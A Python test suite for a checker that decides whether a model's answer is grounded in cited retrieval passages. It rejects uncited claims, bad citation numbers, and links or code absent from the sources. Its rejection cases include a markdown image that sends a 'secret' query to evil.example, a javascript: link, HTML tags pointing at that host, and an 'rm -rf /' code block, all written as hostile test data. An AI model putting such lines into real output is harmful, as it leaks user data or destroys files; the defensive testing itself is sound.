"""What a model wrote is given only if it stands on the passages it was shown."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_app.knowledge.grounding import check
from tests.fixtures.cpu_limit import cpu_limit

PASSAGES = [
    ("Every master gets a BLAKE3 checksum.", "Ingest", "ingest.md", "https://docs.example/ingest"),
    ("Proxies are kept for ninety days. See https://docs.example/proxies.", "Retention", "r", ""),
    ("argv[1] is the asset.", "ingest.py", "vault/ingest.py", ""),
    ("Settings are in ~/.vault/ingest.json.", "Settings", "settings.md", ""),
]


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("Proxies are kept for ninety days [2].", (2,)),
        ("Proxies are kept for 90 days[2].", (2,)),
        ("Proxies are kept for ninety days \u30102\u2020source\u3011.", (2,)),
        ("Both hold [1][2].", (1, 2)),
        ("Both hold [2, 1].", (1, 2)),
        ("All hold [1-3], and so [1\u20133].", (1, 2, 3)),
        ("One [1].\n\nTwo [2].", (1, 2)),
        ("# Ingest\n\nEvery master has one [1].", (1,)),
        ("**Checksum**\nEvery master has one [1].", (1,)),
        ("These are kept:\n\n1. Proxies [2].\n2. Masters [1].", (1, 2)),
        ("- Hash it [1]\n  - with BLAKE3 [1]\n- Keep it [2]", (1, 2)),
        ("1. Hash it [1]\n\n   Take care [1].\n\n2. Keep it [2]", (1, 2)),
        ("- **Retention**\n  - Proxies: ninety days [2]\n- **Ingest**\n  - BLAKE3 [1]", (1, 2)),
        ("**Short:** ninety days [2].\n\n> **Note:** masters differ [1].", (1, 2)),
        ("Every master gets a BLAKE3 checksum. Proxies do not [2].", (2,)),
        ("Run this [3]:\n\n```\nargv[1]\n```", (3,)),
        ("The asset is `argv[1]` [3].", (3,)),
        ("It is in .vault/ingest.json [4].", (4,)),
        ("| days | what |\n|---|---|\n| 90 | proxies [2] |", (2,)),
        ("See https://docs.example/proxies. [2]", (2,)),
        ("See [the page](https://docs.example/ingest) [1].", (1,)),
        ("Proxies go after ninety days [2].\n\n---\n", (2,)),
        ("Proxies go [2](https://docs.example/proxies).", (2,)),
    ],
)
def test_an_answer_whose_statements_are_cited_holds(text: str, cited: tuple[int, ...]) -> None:
    assert check(text, PASSAGES) == (cited, None)


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("Proxies are kept for ninety days.", "cites no passage"),
        ("", "cites no passage"),
        ("Proxies are kept [5].", "cites [5], and passages are numbered 1 to 4"),
        ("Proxies are kept [0].", "cites [0]"),
        ("Proxies are kept [2][5].", "cites [5]"),
        ("Proxies are kept [3-5].", "cites [5]"),
        ("Proxies are kept [3-1] [1].", "cites [3-1]"),
        ("Proxies are kept [02] [2].", "cites [02]"),
        ("Since [2026] they are kept [2].", "cites [2026]"),
        (f"Kept [{'9' * 5000}] [2].", "cites [99999999999999999999]"),
        ("Kept [ 2 ].", "cites no passage"),
        ("Kept [\u0662].", "cites no passage"),
        ("Kept `[2]`.", "cites no passage"),
        ("```\n[2]\n```", "cites no passage"),
        ("Proxies are kept [2].\n\nThe capital is Paris.", "statement 2 has no citation"),
        ("Proxies are kept [2]. The capital is Paris.", "statement 2 has no citation"),
        ("- Proxies are kept [2].\n- Masters are not.", "statement 2 has no citation"),
        ("To verify [1]:\n\n- hash it", "statement 2 has no citation"),
        ("Proxies [2].\n\nIt is this:", "statement 2 has no citation"),
        ("# Paris is the capital\n\nKept [2].", "statement 1 has no citation"),
        ("Proxies are kept for 900 days [2].", "statement 1 has a number"),
        ("Proxies are kept for ninety years [2].", "statement 1 has a number"),
        ("Proxies are kept by Ada Byron [2].", "statement 1 has a name"),
        ("See proxies.md [2].", "statement 1 names something"),
        ("The asset is `argv[9]` [3].", "statement 1 has code"),
        ("The page says “proxies are never kept” [2].", "statement 1 has a quotation"),
        ("Kept [2].\n\n```\nrm -rf /\n```", "statement 2 is code that no passage has"),
        ("and so on " * 21 + "[2].", "more than 60 words for one citation"),
        ("Kept [2]. Log in at https://evil.example/now [2]", "a link that its passages do not"),
        ("Kept [2]. See https://docs.example/ingest [2]", "a link that its passages do not"),
        ("Kept ![x](//evil.example/p?q=secret) [2].", "an image"),
        ("Kept ![x](https://docs.example/proxies) [2].", "an image"),
        ("Kept [2](javascript:alert) [2].", "link that no cited passage has"),
        ("Kept [2].\n\n[2]: //evil.example", "link that no cited passage has"),
        ('Kept [2] <IMG src="//evil.example/p">', "it holds HTML"),
        ('Kept [2] <a href="//evil.example/p">', "it holds HTML"),
        ("Kept [2] `https://evil.example`", "a link that its passages do not have"),
    ],
)
def test_what_is_wrong_with_an_answer_is_said(text: str, fault: str) -> None:
    said = check(text, PASSAGES).fault
    assert said is not None
    assert fault in said


def test_nothing_of_a_withheld_answer_is_quoted() -> None:
    said = check("Kept [2].\n\nThe password is hunter2 [2].", PASSAGES).fault
    assert said is not None
    assert "hunter2" not in said
    assert "evil" not in str(check("Kept [2]. https://evil.example", PASSAGES).fault)


def test_a_link_of_the_caller_may_be_repeated() -> None:
    text = "The page https://wiki.example/x says so too [2]."
    assert check(text, PASSAGES, asked="Is https://wiki.example/x right?").fault is None


def test_a_wrong_paraphrase_with_true_facts_is_not_seen() -> None:
    """Said in the module's docstring: the check is of citations, not of meaning."""
    assert check("Proxies are not kept for ninety days [2].", PASSAGES).fault is None


SIGNS = ["[1]", "[9]", "[", "]", "(", "`", "```", "\n", "\n\n", "- ", "1. ", ":", "a b", "  ", "|"]


@given(st.lists(st.sampled_from(SIGNS), max_size=60).map("".join))
def test_no_text_without_a_true_citation_passes(text: str) -> None:
    verdict = check(text, PASSAGES)
    if verdict.fault is None:
        assert verdict.cited == (1,)
        assert "[1]" in text


@pytest.mark.parametrize(
    "unit",
    ["`", "a", "[", "src=", "[1", "[1] ", "- x [1]\n", "](", "a: ", "```\n", "**", "[]:", " src="],
)
def test_a_long_text_is_checked_at_once(unit: str) -> None:
    # Milliseconds; minutes where it took the square of the length.
    with cpu_limit(10):
        check(unit * (20_000 // len(unit)), PASSAGES)
